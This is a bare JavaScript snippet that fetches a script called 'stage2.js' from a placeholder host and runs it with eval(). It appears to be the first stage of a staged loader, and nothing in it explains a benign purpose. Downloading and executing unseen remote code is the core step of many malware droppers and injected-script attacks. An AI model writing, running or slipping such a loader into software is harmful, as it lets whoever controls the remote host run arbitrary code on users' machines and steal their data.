(async () => {
  const code = await (await fetch('https://example.org/stage2.js')).text();
  eval(code);
})();
